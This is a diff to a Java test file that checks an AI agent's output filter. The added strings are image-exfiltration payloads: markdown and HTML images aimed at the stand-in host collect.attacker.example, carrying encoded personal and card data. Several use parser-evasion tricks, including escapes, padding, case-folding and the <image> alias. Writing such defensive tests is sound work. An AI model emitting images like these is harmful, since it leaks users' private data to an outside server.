@@ -216,6 +216,15 @@ class AgentPresetTest {
                 // an <img> whose earlier attribute holds '>' or '<'
                 "<img alt=\"a>b\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 "<img alt='a<b' src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // a backslash or bracket the view decoded is no markdown syntax
+                "Done. ![a\\\\](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. ![a&rsqb;](https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                // any run of spaces before the destination; labels case-folded as CommonMark does
+                "Done. ![a](" + " ".repeat(17)
+                        + "https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. ![\u1E9E]\n\n[SS]: https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ",
+                // a quote opens an attribute value only after '='
+                "<img x=a\"b alt=\">\" src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
                 // "<image" is "<img" to an HTML parser
                 "Hi <image src=\"https://collect.attacker.example/p.png?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> bye",
                 // an alt text of any length
@@ -317,6 +326,15 @@ class AgentPresetTest {
     }
 
     private record StreamOutcome(String received, PolicyBlockedException blocked) {}
+
+    @Test
+    void aStreamedImgWhoseAltHoldsAClosingBracketIsHeldUntilTheTagCloses() {
+        String answer = "Here you go. <img alt=\"a>b\" src=\"https://collect.attacker.example/p.png?pad="
+                + "z".repeat(300) + "&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\"> Thanks.";
+        StreamOutcome out = stream(answer, 5);
+        assertThat(out.blocked()).isNotNull();
+        assertThat(out.received()).doesNotContain("collect.attacker");
+    }
 
     @Test
     void aStreamedImageStillOpenPastTheHoldIsBlockedNotReleased() {
